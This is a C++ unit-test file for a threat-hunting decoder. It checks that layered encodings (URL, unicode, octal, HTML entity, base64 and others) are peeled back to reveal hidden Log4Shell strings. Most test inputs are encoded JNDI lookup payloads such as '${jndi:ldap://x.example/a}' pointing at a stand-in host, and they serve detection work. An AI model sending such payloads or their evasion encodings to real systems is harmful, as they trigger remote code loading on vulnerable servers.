#include "hunt/decoders.h"

#include <gtest/gtest.h>

#include <string>
#include <vector>

namespace l4s::hunt {
namespace {

// The most decoded form and the names of the layers peeled to get it.
std::pair<std::string, std::string> peel(std::string_view text) {
  std::vector<DecodedText> v = peel_layers(text);
  if (v.empty()) return {std::string(text), ""};
  std::string names;
  for (Layer l : v.back().layers) names += (names.empty() ? "" : ",") + std::string(layer_name(l));
  return {v.back().text, names};
}

// research/hunting.md section 1b, E1-E10.
TEST(DecodersTest, TransportEncodings) {
  struct Case {
    const char* in;
    const char* out;
    const char* layers;
  } cases[] = {
      {"/?x=$%7Bjndi:ldap://x.example/a%7D", "/?x=${jndi:ldap://x.example/a}", "url"},                   // E1
      {"%24%7B%6A%6E%64%69%3A%6C%64%61%70%3A%2F%2Fx%2Fa%7D", "${jndi:ldap://x/a}", "url"},                // E2
      {"%2524%257Bjndi%253Aldap%253A//x/a%257D", "${jndi:ldap://x/a}", "url,url"},                         // E3
      {"%2F%252524%25257Bjndi%3A", "/${jndi:", "url,url,url"},                                             // E3
      {"%u0024%u007Bjndi:ldap://x/a%u007D", "${jndi:ldap://x/a}", "url_unicode"},                          // E4
      {"\\u0024\\u007bjndi:ldap://x/a\\u007d", "${jndi:ldap://x/a}", "unicode_escape"},                    // E5
      {"${\\u006a\\u006e\\u0064\\u0069:ldap://x/a}", "${jndi:ldap://x/a}", "unicode_escape"},              // E5
      {"${jnd${upper:\\xC4\\xB1}:ldap://x/a}", "${jnd${upper:\xC4\xB1}:ldap://x/a}", "hex_escape"},        // E6
      {"\\044\\173jndi:ldap://x/a\\175", "${jndi:ldap://x/a}", "octal_escape"},                            // E7
      {"\\\\44{env:X}", "${env:X}", "json_escape,octal_escape"},                                           // E7
      {"&#36;&#123;jndi:ldap://x/a&#125;", "${jndi:ldap://x/a}", "html_entity"},                          // E8
      {"&#x24;&lbrace;jndi:ldap://x/a&rcub;", "${jndi:ldap://x/a}", "html_entity"},                       // E8
      {"{\"ua\":\"${jndi:ldap:\\/\\/x\\/a}\"}", "{\"ua\":\"${jndi:ldap://x/a}\"}", "json_escape"},         // E9
      {"Authorization: Basic JHtqbmRpOmxkYXA6Ly94LmV4YW1wbGUvYX06cHc=", "Authorization: Basic ${jndi:ldap://x.example/a}:pw",
       "basic_auth"},                                                                                      // E10
      {"x-token: JHtqbmRpOmxkYXA6Ly94LmV4YW1wbGUvYX0", "x-token: ${jndi:ldap://x.example/a}", "base64"},
      {"GET /a/JHtqbmRpOmxkYXA6Ly94LmV4YW1wbGUvYX0=/b", "GET /a/${jndi:ldap://x.example/a}/b", "base64"},
      {"%5Cu0024%7Bjndi:x%7D", "${jndi:x}", "url,unicode_escape"},
      {"\\uD83D\\uDE00", "\xF0\x9F\x98\x80", "unicode_escape"},  // surrogate pair
  };
  for (const Case& c : cases) {
    auto [text, layers] = peel(c.in);
    EXPECT_EQ(text, c.out) << c.in;
    EXPECT_EQ(layers, c.layers) << c.in;
  }
}

TEST(DecodersTest, LeavesOrdinaryTextAlone) {
  for (const char* s : {"GET /index.html HTTP/1.1", "100% sure", "a \\ b", "C:\\1\\x", "&unknown; & more",
                        "/Basic/Command/Base64/Y3VybCAtcyAxMjcuMC4wLjE=", "\\uZZZZ %zz %u12", "${jndi:ldap://x/a}",
                        "\\uD800 lone surrogate", "%00"}) {
    std::vector<DecodedText> v = peel_layers(s);
    if (std::string(s) == "%00") {
      ASSERT_EQ(v.size(), 1u);  // %00 decodes, to a NUL byte
      EXPECT_EQ(v[0].text, std::string(1, '\0'));
      continue;
    }
    EXPECT_TRUE(v.empty()) << s << " -> " << v[0].text;
  }
}

TEST(DecodersTest, VariantsPerRound) {
  std::vector<DecodedText> v = peel_layers("%2524%257B");
  ASSERT_EQ(v.size(), 2u);
  EXPECT_EQ(v[0].text, "%24%7B");
  EXPECT_EQ(v[1].text, "${");
  EXPECT_EQ(v[1].layers, (std::vector<Layer>{Layer::kUrl, Layer::kUrl}));
}

TEST(DecodersTest, RoundsAreBounded) {
  std::string s = "$";
  for (int i = 0; i < 20; ++i) {
    std::string e;
    for (char c : s) {
      char buf[4];
      std::snprintf(buf, sizeof buf, "%%%02X", static_cast<unsigned char>(c));
      e += buf;
    }
    s = e.size() > 4096 ? s : e;
  }
  std::vector<DecodedText> v = peel_layers(s);
  EXPECT_LE(v.size(), static_cast<size_t>(DecodeLimits{}.max_rounds));
}

TEST(DecodersTest, Base64) {
  std::string out;
  EXPECT_TRUE(decode_base64("JHtqbmRpOg==", &out));
  EXPECT_EQ(out, "${jndi:");
  EXPECT_TRUE(decode_base64("JHtqbmRpOg", &out));  // padding optional
  EXPECT_EQ(out, "${jndi:");
  EXPECT_TRUE(decode_base64("-_8", &out));          // URL-safe alphabet
  EXPECT_EQ(out, "\xFB\xFF");
  EXPECT_FALSE(decode_base64("abcde", &out));       // impossible length
  EXPECT_FALSE(decode_base64("ab cd", &out));
}

}  // namespace
}  // namespace l4s::hunt
